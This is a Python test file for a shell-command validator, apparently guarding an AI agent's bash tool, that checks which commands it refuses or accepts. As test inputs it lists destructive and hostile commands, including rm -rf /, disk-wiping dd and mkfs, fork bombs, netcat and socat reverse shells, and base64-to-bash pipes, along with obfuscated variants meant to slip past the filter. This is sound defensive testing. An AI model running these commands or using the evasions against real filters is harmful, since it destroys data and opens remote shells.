"""CommandValidator: what it refuses, its messages, and what it accepts. No command is run."""

from __future__ import annotations

import pytest

from nacre import Decision, check
from nacre.compat.tachikoma import BashOptions, CommandValidator, Validation
from nacre.errors import InvalidPolicy
from nacre.profiles.tachikoma import TACHIKOMA, tachikoma

DEFAULT = CommandValidator(BashOptions().values.blocked_commands)
LITERAL = CommandValidator(BashOptions().values.blocked_commands, literal=True)
BARE = CommandValidator([])
DANGEROUS = "Command appears to be dangerous"


def refusal_of(validator: CommandValidator, command: str) -> str:
    """Return the validator's message; empty if it accepts the command."""
    try:
        validator.validate(command)
    except Validation as refused:
        return refused.message
    return ""


def blocked_message(pattern: str) -> str:
    return f"Command contains blocked pattern: {pattern}"


@pytest.mark.req("K-04")
@pytest.mark.parametrize("command", ["ls -la", "git status", "echo 'hello'", "make test 2>&1 | tee log"])
@pytest.mark.parametrize("validator", [BARE, DEFAULT, LITERAL], ids=["bare", "default", "literal"])
def test_normal_command_passes_the_validator(command: str, validator: CommandValidator) -> None:
    assert refusal_of(validator, command) == ""


@pytest.mark.req("K-04")
@pytest.mark.parametrize("command", ["", " ", "\n\t ", "\u2003"], ids=repr)
@pytest.mark.parametrize("validator", [BARE, DEFAULT, LITERAL], ids=["bare", "default", "literal"])
def test_empty_command_is_refused(command: str, validator: CommandValidator) -> None:
    assert refusal_of(validator, command) == "Empty command"


@pytest.mark.req("K-04")
def test_command_with_a_pattern_of_the_caller_is_refused() -> None:
    assert refusal_of(CommandValidator(["rm -rf /"]), "rm -rf /") == blocked_message("rm -rf /")
    assert refusal_of(CommandValidator(["Git Push"]), "cd x && GIT push -u") == blocked_message("Git Push")
    assert refusal_of(CommandValidator(["a\nb"]), "echo a\nb") == blocked_message("a\nb")
    assert refusal_of(CommandValidator(["x.y"]), "echo xzy") == ""


@pytest.mark.req("K-04")
def test_pattern_of_the_caller_matches_text_anywhere() -> None:
    for command in ('echo "rm -rf /"', "rm -rf /tmp/x", "true # rm -rf /"):
        assert refusal_of(CommandValidator(["rm -rf /"]), command) == blocked_message("rm -rf /")
    assert refusal_of(CommandValidator(["mkfs"]), "man mkfs") == blocked_message("mkfs")


@pytest.mark.req("K-04")
def test_dangerous_command_is_refused_without_any_pattern() -> None:
    assert refusal_of(BARE, "rm -rf /") == DANGEROUS
    assert refusal_of(BARE, "dd if=/dev/zero of=/dev/sda") == DANGEROUS
    assert refusal_of(BARE, "nc -e /bin/sh 10.0.0.1 4444") == DANGEROUS
    assert refusal_of(BARE, "ncat -e /bin/bash 10.0.0.1 4444") == DANGEROUS
    assert refusal_of(BARE, "echo bHM= | base64 -d | bash") == DANGEROUS
    assert refusal_of(BARE, "echo bHM= |base64 -d |bash") == DANGEROUS


PATTERNS = {
    "rm -rf /": ["rm -rf /", "rm -fr -- /", "sudo rm -r -f /*", "RM -RF /", "bash -c 'rm -rf /'", "X=/; rm -rf $X",
                 "true && rm -rf //", "cd / && rm -rf *", "echo / | xargs rm -rf", "r''m -rf /", 'rm -rf "$NOPE"/',
                 "rm -rf /etc", "rm -fr /usr/", "rm -rf /bin /usr", "rm -rf /boot", "RM -RF /VAR", "cd / && rm -rf lib",
                 "rm -rf /etc/ssh"],
    ":(){ :|:& };:": [":(){ :|:& };:", ":(){:|:&};:", "bomb() { bomb | bomb & }; bomb", "perl -e 'fork while fork'"],
    "mkfs": ["mkfs disk.img", "mkfs.ext4 /dev/sdb1", "sudo MKFS.XFS x", "eval 'mkfs x'", "/sbin/mkfs.vfat x"],
    "dd if=/dev/": ["dd if=/dev/zero of=x", "dd of=x  if=/dev/urandom count=1", "cd /dev; dd if=sda of=/tmp/x",
                    "DD IF=/DEV/ZERO OF=/DEV/SDA", "dd if=/d''ev/zero"],
    "> /dev/sd": ["> /dev/sda", "cat x >/dev/sdb1", "{ echo x; } >> /dev/sdc", "tee /dev/sda < x", "cp x /dev/sdz",
                  "d=/dev/sdb; cat x > $d"],
}  # fmt: skip


@pytest.mark.req("K-02", "K-04")
@pytest.mark.parametrize(
    ("command", "pattern"), [(command, pattern) for pattern, found in PATTERNS.items() for command in found]
)
def test_default_pattern_matches_equivalent_commands(command: str, pattern: str) -> None:
    assert refusal_of(DEFAULT, command) == blocked_message(pattern)


@pytest.mark.req("K-04")
@pytest.mark.parametrize(
    "command",
    [
        "rm / -r",
        "rm -rf /etc",
        "rm -R /usr",
        "dd if=image of=/dev/sda",
        "dd if=image of=/dev/null",
        "xzcat os.xz | dd of=/dev/sdb",
        "nc -l 80 -e /bin/cat",
        "NC -E /BIN/SH h 1",
        "ncat --exec /usr/bin/env h 1",
        "netcat h 1 -e bash",
        "nc -c sh h 1",
        "mkfifo f; cat f | /bin/sh -i | nc h 1 > f",
        "socat TCP-LISTEN:1 EXEC:/bin/sh",
        "base64 x | bash",
        "base64 -d x.b64|sh",
        "base64 -d x | gunzip | sudo bash",
        "bash <(base64 -d x)",
        'eval "$(base64 -d <<< bHM=)"',
        "base64 -d x > x.sh; sh x.sh",
        "base64 x | some-filter | bash",
        "BASE64 -d x | bash",
        "Base64 -d x|bash",
        "base64 -d x | BASH",
        "{ BASE64 -D x; } | bash",
        "BASE64 -d x | gunzip | sudo Bash",
        "X=$(BASE64 -d x); echo $X | BASH",
    ],
)
def test_dangerous_command_is_found_by_its_effect(command: str) -> None:
    assert refusal_of(BARE, command) == DANGEROUS


@pytest.mark.req("K-04")
@pytest.mark.parametrize(
    "command",
    [
        'echo "rm -rf /"',
        "git commit -m 'never run rm -rf /'",
        "rm -rf /tmp/x",
        "rm -rf ./build /tmp/y",
        "rm -rf /var/tmp/x /home/me/project/build",
        "rm -rf /tmp/* /usr/local/go",
        "grep -rn 'mkfs' docs",
        "man mkfs",
        "which mkfs.ext4",
        "echo ':(){ :|:& };:'",
        "echo 'dd if=/dev/zero'",
        "dd if=a of=b 2>/dev/null",
        "pv x | dd of=/dev/null",
        "echo '> /dev/sda'",
        "make > /dev/null",
        "echo x > /dev/shm/sda",
        "grep -e /bin/sh /etc/passwd",
        "nc -zv localhost 5432",
        "echo 'nc -e /bin/sh'",
        "sync -e /bin/x",
        "rsync -e /usr/bin/ssh a b:",
        "base64 x > y; echo '| bash'",
        "echo hi | base64",
        "BASE64 x | Cat; echo '| BASH'",
        "echo 'BASE64 -d x | BASH'",
        "base64 -d x | jq .",
        "cat <<'X'\nrm -rf /\nX",
        "# rm -rf /\ntrue",
    ],
)
def test_harmless_command_that_looks_dangerous_passes(command: str) -> None:
    assert refusal_of(DEFAULT, command) == ""


@pytest.mark.req("K-04")
@pytest.mark.parametrize(
    ("command", "message"),
    [
        ('echo "rm -rf /"', blocked_message("rm -rf /")),
        ("rm -rf /tmp/x", blocked_message("rm -rf /")),
        ("man mkfs", blocked_message("mkfs")),
        ("man MKFS", ""),
        ("dd if=/dev/zeroMKFS", blocked_message("dd if=/dev/")),
        ("mkf\u017f x", ""),
        ("dd \u0131f=/dev/zero", ""),
        ("dd \u0130F=/dev/zero", ""),
        ("nc -e /b\u0131n/sh", ""),
        ("NC -E /BIN/SH", DANGEROUS),
        ("echo 'dd if=/dev/zero'", blocked_message("dd if=/dev/")),
        ("echo '> /dev/sda'", blocked_message("> /dev/sd")),
        ("echo ':(){ :|:& };:'", blocked_message(":(){ :|:& };:")),
        ("RM  -RF  /", DANGEROUS),
        ("ls /; echo -rf; echo rm", DANGEROUS),
        ("dd bs=1 if=a 2>/dev/null", DANGEROUS),
        ("sync\nset -e\n/bin/true", DANGEROUS),
        ("echo base64 |bash", DANGEROUS),
        ("base64 x | bash", DANGEROUS),
        ("base64 x | sh", ""),
        ("base64 x |  bash", ""),
        ("cat x>/dev/sda", ""),
    ],
)
def test_literal_validator_matches_text_as_in_the_document(command: str, message: str) -> None:
    assert refusal_of(LITERAL, command) == message


@pytest.mark.req("K-04")
@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("nc -e /bin/sh h 1; mkfs x; rm -rf /", "rm -rf /"),
        ("nc -e /bin/sh h 1; mkfs x", "mkfs"),
        ("cat x > /dev/sda; dd if=/dev/zero of=x", "dd if=/dev/"),
        ("dd if=/dev/zero of=/dev/sda", "dd if=/dev/"),
    ],
)
@pytest.mark.parametrize("validator", [DEFAULT, LITERAL], ids=["default", "literal"])
def test_first_matching_pattern_is_named_before_any_danger(
    command: str, pattern: str, validator: CommandValidator
) -> None:
    assert refusal_of(validator, command) == blocked_message(pattern)


def test_removing_the_home_directory_is_refused_with_our_message() -> None:
    for validator in (BARE, DEFAULT, LITERAL):
        assert "would delete the home director" in refusal_of(validator, "rm -rf ~")


def test_validator_uses_env_and_working_directory() -> None:
    with pytest.raises(Validation):
        DEFAULT.validate("rm -rf $X", env={"X": "/"})
    with pytest.raises(Validation):
        DEFAULT.validate("rm -rf *", cwd="/")
    DEFAULT.validate("rm -rf $X", env={"X": "/tmp/x"})
    DEFAULT.validate("rm -rf ./x", cwd="/tmp")


def test_command_with_a_nul_byte_is_refused() -> None:
    assert "NUL" in refusal_of(DEFAULT, "a\0b")


@pytest.mark.parametrize("given", ["rm", [b"rm"], [None]], ids=repr)
def test_patterns_must_be_a_list_of_strings(given: list[str]) -> None:
    with pytest.raises(InvalidPolicy, match="not a list of strings"):
        CommandValidator(given)
    with pytest.raises(InvalidPolicy, match="not a list of strings"):
        tachikoma(block=given)


def test_validator_exposes_its_patterns() -> None:
    assert CommandValidator(["a", "b"]).blocked_patterns == ("a", "b")


@pytest.mark.req("K-04")
@pytest.mark.parametrize(
    ("command", "pattern"), [(command, pattern) for pattern, found in PATTERNS.items() for command in found[:2]]
)
def test_profile_policy_refuses_with_the_same_message(command: str, pattern: str) -> None:
    verdict = check(command, policy=TACHIKOMA.policy)
    assert (verdict.decision, verdict.what, verdict.instead) == (Decision.REFUSE, blocked_message(pattern), "")


@pytest.mark.slow
def test_validating_a_long_text_finishes() -> None:
    """Anything quadratic in the length would take hours."""
    for command in ("rm " * 50_000, "base64 |" * 2000 + "bash", "nc -e " * 50_000, "-rf / " * 50_000):
        for validator in (DEFAULT, LITERAL, CommandValidator(["a" * 1000])):
            refusal_of(validator, command)
